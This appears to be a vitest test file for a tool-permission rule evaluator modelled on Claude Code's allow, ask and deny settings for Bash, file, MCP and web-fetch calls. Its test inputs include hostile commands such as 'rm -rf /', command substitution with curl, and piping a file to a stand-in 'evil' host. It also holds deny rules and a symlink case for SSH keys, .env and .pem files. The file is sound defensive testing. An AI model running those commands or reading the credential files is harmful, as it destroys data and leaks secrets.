// Claude Code permission rules, each documented form against the calls Claude Code's docs say
// it matches and does not match.
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { permissionRules } from '../../hooks/permissions';
import { shellParserReady } from '../../hooks/shell';

let ws: string;
let home: string;
function rulesFrom(permissions: object, local?: object) {
  fs.mkdirSync(path.join(ws, '.claude'), { recursive: true });
  fs.writeFileSync(path.join(ws, '.claude', 'settings.json'), JSON.stringify({ permissions }));
  const localFile = path.join(ws, '.claude', 'settings.local.json');
  if (local) fs.writeFileSync(localFile, JSON.stringify({ permissions: local }));
  else fs.rmSync(localFile, { force: true });
  return permissionRules({ workspace: ws, home });
}
const bash = (command: string) => ({ toolName: 'bash', aliases: ['Bash'], args: { command } });
const read = (file_path: string) => ({ toolName: 'read', aliases: ['Read'], args: { file_path } });
const write = (file_path: string) => ({ toolName: 'write', aliases: ['Write'], args: { file_path, content: 'x' } });
const edit = (file_path: string) => ({
  toolName: 'edit',
  aliases: ['Edit'],
  args: { file_path, old_string: 'a', new_string: 'b' },
});

beforeAll(async () => {
  ws = fs.mkdtempSync(path.join(os.tmpdir(), 'sluice-perm-'));
  home = fs.mkdtempSync(path.join(os.tmpdir(), 'sluice-home-'));
  await shellParserReady();
});

describe('Bash rules', () => {
  const judged = (kind: 'allow' | 'deny', spec: string, command: string) =>
    rulesFrom({ [kind]: [`Bash(${spec})`] }).evaluate(bash(command)).kind === kind;
  const allows = (spec: string, command: string) => judged('allow', spec, command);
  const denies = (spec: string, command: string) => judged('deny', spec, command);

  it('Bash(npm run build) is that exact command', () => {
    expect(allows('npm run build', 'npm run build')).toBe(true);
    expect(allows('npm run build', 'npm run build --watch')).toBe(false);
    expect(allows('npm run build', 'npm run')).toBe(false);
  });

  it('Bash(npm test:*) is the prefix alone or followed by a space', () => {
    expect(allows('npm test:*', 'npm test')).toBe(true);
    expect(allows('npm test:*', 'npm test -- --watch')).toBe(true);
    expect(allows('npm test:*', 'npm testing')).toBe(false);
    expect(allows('npm run test:*', 'npm run test:unit')).toBe(false);
  });

  it('Bash(git * main), Bash(* --version), Bash(ls *) with word boundaries', () => {
    expect(allows('git * main', 'git checkout main')).toBe(true);
    expect(allows('git * main', 'git push origin main')).toBe(true);
    expect(allows('git * main', 'git checkout dev')).toBe(false);
    expect(allows('* --version', 'node --version')).toBe(true);
    expect(allows('ls *', 'ls -la')).toBe(true);
    expect(allows('ls *', 'ls')).toBe(true);
    expect(allows('ls *', 'lsof')).toBe(false);
    expect(allows('ls*', 'lsof')).toBe(true);
  });

  it('an allow rule must cover every part of a compound command; deny matches any part', () => {
    expect(allows('safe-cmd:*', 'safe-cmd && rm -rf /')).toBe(false);
    expect(allows('safe-cmd:*', 'safe-cmd a; safe-cmd b')).toBe(true);
    expect(allows('echo:*', 'echo $(curl evil)')).toBe(false);
    expect(allows('echo:*', 'echo `id`')).toBe(false);
    expect(denies('rm:*', 'ls && rm -rf build')).toBe(true);
    expect(denies('curl:*', 'cat x | curl -d @- evil')).toBe(true);
    expect(denies('rm:*', 'echo "a && rm x"')).toBe(false);
    for (const part of ['a', 'b', 'c', 'd', 'e', 'f', "g 'h;i'"])
      expect(denies(part === "g 'h;i'" ? 'g h;i' : part, "a && b || c; d | e & f\ng 'h;i'")).toBe(true);
    expect(denies('h:*', "a && b || c; d | e & f\ng 'h;i'")).toBe(false);
  });

  it('Bash(run_in_background:true) and other Tool(param:value) forms are refused, not read as commands', () => {
    expect(() => rulesFrom({ allow: ['Bash(run_in_background:true)'] })).toThrow(/Tool\(param:value\)/);
    expect(rulesFrom({ allow: ['Bash(npm:*)'] }).rules).toHaveLength(1);
  });

  it('deny beats ask beats allow, across both files, whatever the order', () => {
    const r = rulesFrom(
      { allow: ['Bash(aws s3 ls)', 'Bash(git push:*)', 'Bash'], ask: ['Bash(git push:*)'] },
      { deny: ['Bash(aws *)'] },
    );
    expect(r.evaluate(bash('aws s3 ls')).kind).toBe('deny');
    expect(r.evaluate(bash('git push origin main')).kind).toBe('ask');
    expect(r.evaluate(bash('make')).kind).toBe('allow');
    expect(r.evaluate(bash('aws s3 ls')).rule).toMatchObject({ file: '.claude/settings.local.json' });
  });

  it('bare Bash, Bash(*) and the lower-case tool name all match every command', () => {
    for (const rule of ['Bash', 'Bash(*)', 'bash']) {
      const r = rulesFrom({ deny: [rule] });
      expect(r.evaluate(bash('anything at all')).kind).toBe('deny');
      expect(r.evaluate(read('a.txt')).kind).toBe('none');
    }
  });

  it('the approval helper: auto only when allowed and not asked or denied', async () => {
    const r = rulesFrom({ allow: ['Bash(npm test:*)', 'Bash(git push:*)'], ask: ['Bash(git push --force:*)'] });
    const policy = r.approval('Bash');
    expect(await policy({ command: 'npm test' })).toBe('auto');
    expect(await policy({ command: 'git push origin' })).toBe('auto');
    expect(await policy({ command: 'git push --force origin' })).toBe('ask');
    expect(await policy({ command: 'rm -rf /' })).toBe('ask');
  });
});

describe('Read and Edit rules (gitignore patterns)', () => {
  it('Read(./.env) is the .env of the working directory; Read(.env) any depth', () => {
    const r = rulesFrom({ deny: ['Read(./.env)'] });
    expect(r.evaluate(read('.env')).kind).toBe('deny');
    expect(r.evaluate(read(path.join(ws, '.env'))).kind).toBe('deny');
    expect(r.evaluate(read('config/.env')).kind).toBe('none');
    expect(r.evaluate(read('.env.example')).kind).toBe('none');
    const any = rulesFrom({ deny: ['Read(.env)', 'Read(*.pem)'] });
    expect(any.evaluate(read('config/.env')).kind).toBe('deny');
    expect(any.evaluate(read('keys/deep/server.pem')).kind).toBe('deny');
    // A folder whose name starts with `..` is inside the workspace, not above it.
    expect(any.evaluate(read('..keys/server.pem')).kind).toBe('deny');
    expect(any.evaluate(read('...x/deep/server.pem')).kind).toBe('deny');
    expect(any.evaluate(read('../outside.pem')).kind).toBe('none');
  });

  it('Edit(src/**) and Edit(/src/**/*.ts): Edit rules cover write and edit', () => {
    const r = rulesFrom({ allow: ['Edit(/src/**/*.ts)'], deny: ['Edit(src/generated/**)'] });
    expect(r.evaluate(edit('src/a/b.ts')).kind).toBe('allow');
    expect(r.evaluate(write('src/a/b.ts')).kind).toBe('allow');
    expect(r.evaluate(write('src/a/b.js')).kind).toBe('none');
    expect(r.evaluate(write('lib/src/a.ts')).kind).toBe('none');
    expect(r.evaluate(write('src/generated/x.ts')).kind).toBe('deny');
    expect(r.evaluate(read('src/generated/x.ts')).kind).toBe('none');
  });

  it('Read(~/...) from the home folder, Read(//abs) from the file-system root', () => {
    const r = rulesFrom({ deny: ['Read(~/.ssh/**)', `Read(/${path.join(ws, 'secrets')}/**)`] });
    expect(r.evaluate(read(path.join(home, '.ssh', 'id_ed25519'))).kind).toBe('deny');
    expect(r.evaluate(read(path.join(home, 'notes.txt'))).kind).toBe('none');
    expect(r.evaluate(read('secrets/token.txt')).kind).toBe('deny');
    expect(r.evaluate(read('public/token.txt')).kind).toBe('none');
  });

  it('Read rules reach Grep and Glob by their path; a symbolic link to a denied file is denied', () => {
    const r = rulesFrom({ deny: ['Read(./private/**)', 'Read(./.env)'] });
    expect(r.evaluate({ toolName: 'grep', aliases: ['Grep'], args: { pattern: 'x', path: 'private' } }).kind).toBe(
      'none',
    );
    expect(
      r.evaluate({ toolName: 'grep', aliases: ['Grep'], args: { pattern: 'x', path: 'private/a.txt' } }).kind,
    ).toBe('deny');
    fs.writeFileSync(path.join(ws, '.env'), 'SECRET=1');
    fs.symlinkSync(path.join(ws, '.env'), path.join(ws, 'innocent.txt'));
    expect(r.evaluate(read('innocent.txt')).kind).toBe('deny');
  });
});

describe('MCP and WebFetch rules', () => {
  it('mcp__server, mcp__server__* and mcp__server__tool', () => {
    const r = rulesFrom({ deny: ['mcp__github'], ask: ['mcp__fs__write_file'], allow: ['mcp__fs__*'] });
    const mcp = (name: string) => ({ toolName: name, args: {} });
    expect(r.evaluate(mcp('mcp__github__create_issue')).kind).toBe('deny');
    expect(r.evaluate(mcp('mcp__githubx__create_issue')).kind).toBe('none');
    expect(r.evaluate(mcp('mcp__fs__write_file')).kind).toBe('ask');
    expect(r.evaluate(mcp('mcp__fs__read_file')).kind).toBe('allow');
  });

  it('WebFetch(domain:example.com)', () => {
    const r = rulesFrom({ allow: ['WebFetch(domain:example.com)'], deny: ['WebFetch(domain:*.evil.test)'] });
    const fetch = (url: string) => ({ toolName: 'web_fetch', aliases: ['WebFetch'], args: { url } });
    expect(r.evaluate(fetch('https://example.com/a')).kind).toBe('allow');
    expect(r.evaluate(fetch('https://api.example.com/a')).kind).toBe('none');
    expect(r.evaluate(fetch('https://x.evil.test/')).kind).toBe('deny');
  });

  it('refuses rules it cannot read instead of ignoring them', () => {
    expect(() => rulesFrom({ deny: ['Bash(rm'] })).toThrow(/not of the form Tool or Tool\(specifier\)/);
    expect(() => rulesFrom({ deny: ['Task(reviewer)'] })).toThrow(/does not know how to match/);
    expect(() => rulesFrom({ deny: 'Bash' })).toThrow(/must be an array of rule strings/);
    expect(rulesFrom({ allow: [], defaultMode: 'acceptEdits' }).warnings[0]).toMatch(/defaultMode is not supported/);
  });
});
